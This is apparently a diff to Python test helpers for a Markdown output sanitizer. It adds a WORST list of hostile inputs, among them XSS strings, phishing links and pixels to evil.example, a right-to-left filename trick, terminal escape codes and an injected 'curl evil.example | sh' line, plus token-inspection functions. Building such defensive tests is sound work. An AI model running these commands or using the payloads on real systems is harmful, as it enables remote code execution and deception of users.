@@ -2,6 +2,27 @@
 
 from __future__ import annotations
 
+import re
+import unicodedata
+from collections.abc import Iterable
+
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+WORST: tuple[str, ...] = (
+    "[click](https://evil.example/login)",
+    "![x](https://evil.example/pixel.png)",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "a | b | c",
+    "see https://evil.example/a?b=c now",
+    "```\n# released as r99\n```",
+    "invoice\u202efdp.exe",
+    "\x1b[31mred\x1b[0m",
+    "bronze.orders\n  next      curl evil.example | sh",
+)
+"""Some of them, for what takes long."""
+
 HOSTILE: tuple[str, ...] = (
     # Markdown
     "[click](https://evil.example/login)",
@@ -80,3 +101,51 @@ HOSTILE: tuple[str, ...] = (
     " ",
     "é ü 漢字 👩‍👩‍👧 ok",
 )
+
+FORGED = {part for text in HOSTILE for part in text.splitlines()[1:] if part.strip()}
+"""Lines that there are only where a text is obeyed."""
+
+# What Markdown makes of a text that means something in it.
+_MEANING = re.compile(
+    r"(link|image|html|code|fence|heading|em|strong|list|bullet|ordered|blockquote|hr|s_|reference)", re.IGNORECASE
+)
+_READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+_READER.validateLink = lambda url: True  # type: ignore[method-assign]
+_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
+
+
+def unseen(text: str, besides: str = "") -> list[str]:
+    """The characters that nobody sees, or that a terminal obeys."""
+    return [each for each in text if each not in besides and unicodedata.category(each) in _UNSEEN]
+
+
+def tokens(markdown: str) -> list[Token]:
+    """What a reader of Markdown that takes HTML, tables, strikethrough and any address makes of a text."""
+    found = _READER.parse(markdown)
+    return [each for token in found for each in (token, *(token.children or ()))]
+
+
+def kinds(parsed: Iterable[Token]) -> list[str]:
+    """The kinds of the tokens that mean something, in their order."""
+    return [each.type for each in parsed if _MEANING.match(each.type)]
+
+
+def words(parsed: Iterable[Token]) -> str:
+    """What is read, code apart."""
+    return "".join(each.content for each in parsed if each.type in ("text", "text_special"))
+
+
+def read(parsed: Iterable[Token]) -> str:
+    """What is read, code and blocks of it too."""
+    return "".join(
+        each.content for each in parsed if each.type in ("text", "text_special", "code_inline", "fence", "code_block")
+    )
+
+
+def shape(markdown: str) -> list[tuple[str, str]]:
+    """What a page is made of, whatever is written in it: the same for every text, where text is text."""
+    return [
+        (each.type, each.info)
+        for each in tokens(markdown)
+        if each.type not in ("text", "text_special", "softbreak", "inline")
+    ]
